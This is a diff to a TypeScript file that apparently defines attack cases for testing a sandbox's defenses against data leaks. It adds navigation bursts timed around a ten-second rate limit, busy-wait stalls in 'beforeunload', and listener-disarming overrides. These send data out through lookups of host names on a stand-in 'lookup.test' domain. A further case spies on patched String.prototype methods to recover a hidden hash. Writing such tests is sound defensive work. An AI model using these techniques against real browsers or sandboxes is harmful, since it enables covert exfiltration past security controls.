@@ -12,6 +12,8 @@ export interface FrameAttack {
   readonly code: string;
   /** Source changes that disable the defense. */
   readonly without: readonly SourceChange[];
+  /** Whether other engines don't have the attacked feature. */
+  readonly onlyInChromium?: boolean;
   /** Results without the defense and with it. */
   readonly results: { readonly without: string; readonly with: string };
 }
@@ -23,8 +25,11 @@ export const variants: ReadonlySet<string> = new Set([
   '`location.replace()` and `stop()`',
   '`navigation.navigate()` and `stop()`',
   'bursts of 100 times `open()` in the same window, after attempts to disable the listener',
+  'bursts a few milliseconds before and after the ten seconds of the limit end',
+  'bursts with a listener of `beforeunload` that waits until the ten seconds have ended',
   '`parent.postMessage()` with deep objects',
   'the base of an element in no document',
+  '`document.baseURI` after functions for text were replaced',
   'the address of a link in an SVG',
   '`select()` of a field',
   '`window.focus()`, every 20 ms',
@@ -61,8 +66,10 @@ const limit: SourceChange = {
 const nextName = `'https://n' + turn++ + 'x.lookup.test/'`;
 
 interface NavigationAttack extends FrameAttack {
-  /** Without the defenses, the number of host name lookups in three seconds exceeds this number. */
+  /** Without the defenses, the number of host name lookups exceeds this number. */
   readonly least: number;
+  /** Time in which these lookups happen, in milliseconds. */
+  readonly lasts: number;
   /** Combinations of defenses that each stop the attack without the others. */
   readonly enough: readonly (readonly SourceChange[])[];
 }
@@ -71,12 +78,16 @@ interface NavigationAttack extends FrameAttack {
 export const mostNames = 2;
 
 /** For programs that wait between attempts. */
-const waiting = { least: 8, pause: 200, enough: [[watch], [limit], [limit, stop]] };
+const waiting = { least: 8, lasts: 3000, enough: [[watch], [limit], [limit, stop]] };
 /**
  * For bursts, in which nothing else runs between the attempts. The page detects the first attempt
  * too late to prevent the others.
  */
-const burst = { least: 30, pause: 1000, enough: [[limit], [limit, stop]] };
+const burst = { least: 30, lasts: 3000, enough: [[limit], [limit, stop]] };
+/**
+ * For a burst at each side of the limit's boundary. Programs wait up to 20 s for it.
+ */
+const boundary = { ...burst, lasts: 24_000 };
 
 /** Defenses that end the run. The limit alone doesn't. */
 export const navigationWatches: readonly SourceChange[] = [watch, stop];
@@ -86,34 +97,67 @@ const disarm = `location.hash = '0'; onbeforeunload = null; Reflect.apply = () =
   Function.prototype.call = Function.prototype.apply = () => {};
   addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true);`;
 
+/** Runs `code` now and after each pause. */
+const repeat = (pause: number, code: string) =>
+  `const next = () => { ${code} }; next(); setInterval(next, ${pause});`;
+
+const bursts = `for (let i = 0; i < 100; i++) { location.href = ${nextName}; stop(); }`;
+/** Waits without letting anything else run. */
+const block = `const block = (until) => { while (performance.now() < until) Math.sqrt(until); };`;
+
 export const navigationAttacks: readonly NavigationAttack[] = (
   [
-    ['`location.href` and `stop()`', waiting, `location.href = ${nextName}; stop();`],
-    ['`location.replace()` and `stop()`', waiting, `location.replace(${nextName}); stop();`],
+    ['`location.href` and `stop()`', waiting, repeat(200, `location.href = ${nextName}; stop();`)],
+    [
+      '`location.replace()` and `stop()`',
+      waiting,
+      repeat(200, `location.replace(${nextName}); stop();`),
+    ],
     [
       '`navigation.navigate()` and `stop()`',
       waiting,
-      `try { navigation.navigate(${nextName}).finished.catch(() => {}); } catch {} stop();`,
+      repeat(
+        200,
+        `try { navigation.navigate(${nextName}).finished.catch(() => {}); } catch {} stop();`,
+      ),
     ],
-    [
-      'bursts of 100 times `location.href` and `stop()`',
-      burst,
-      `for (let i = 0; i < 100; i++) { location.href = ${nextName}; stop(); }`,
-    ],
+    ['bursts of 100 times `location.href` and `stop()`', burst, repeat(1000, bursts)],
     [
       'bursts of 100 times `open()` in the same window, after attempts to disable the listener',
       burst,
-      `${disarm} for (let i = 0; i < 100; i++) { open(${nextName}, '_self'); stop(); }`,
+      `${disarm} ${repeat(1000, `for (let i = 0; i < 100; i++) { open(${nextName}, '_self'); stop(); }`)}`,
+    ],
+    [
+      'bursts a few milliseconds before and after the ten seconds of the limit end',
+      boundary,
+      // The browser ignores a new hash once the limit is used up. When it accepts one again, ten seconds start.
+      `${block} let hash = 0;
+      const isAccepted = () => { location.hash = hash += 1; return location.hash === '#' + hash; };
+      while (hash < 300) isAccepted();
+      const watching = setInterval(() => {
+        if (!isAccepted()) return;
+        clearInterval(watching);
+        const end = performance.now() + 10_000;
+        setTimeout(() => {
+          block(end - 4); ${bursts}
+          block(end + 4); ${bursts}
+        }, 9_900);
+      }, 1);`,
+    ],
+    [
+      'bursts with a listener of `beforeunload` that waits until the ten seconds have ended',
+      boundary,
+      `${block} addEventListener('beforeunload', () => block(performance.now() + 10_050), { once: true }); ${bursts}`,
     ],
   ] as const
-).map(([name, { pause, ...numbers }, code]) => ({
+).map(([name, numbers, code]) => ({
   name,
   gain: 'Any number of host names, each with data in it, which the browser looks up',
-  code: `let turn = 0; const next = () => { ${code} }; next(); setInterval(next, ${pause});`,
+  code: `console.log('starts'); let turn = 0; ${code}`,
   without: [watch, stop, limit],
   ...numbers,
   results: {
-    without: `More than ${numbers.least} names in 3 s; the program goes on`,
+    without: `More than ${numbers.least} names; the program goes on`,
     with: `The run ends; at most ${mostNames} names`,
   },
 }));
@@ -155,6 +199,7 @@ const withoutBase: readonly SourceChange[] = [
     from: "document.baseURI.replace(/#.*$/s, '')",
     to: 'document.baseURI',
   },
+  { file: 'packages/runner/src/boot/stubs.ts', from: '  hideHash();\n', to: '' },
 ];
 
 export const addressAttacks: readonly FrameAttack[] = (
@@ -166,6 +211,16 @@ export const addressAttacks: readonly FrameAttack[] = (
         document.head.append(base); base.remove(); return document.baseURI; })()`,
     ],
     ['the base of an element in no document', `document.createElement('a').baseURI`],
+    [
+      '`document.baseURI` after functions for text were replaced',
+      `(() => { let seen = ''; const { replace, split, indexOf, slice } = String.prototype;
+        const spy = function (...args) { seen += this; return ''; };
+        Object.assign(String.prototype, { replace: spy, split: spy, indexOf: spy, slice: spy, substring: spy });
+        Reflect.apply = (_call, self) => { seen += self; return ''; };
+        const base = document.baseURI;
+        Object.assign(String.prototype, { replace, split, indexOf, slice });
+        return base + ' ' + seen; })()`,
+    ],
     [
       'the address of a link in an SVG',
       `document.createElementNS('http://www.w3.org/2000/svg', 'a').baseURI`,
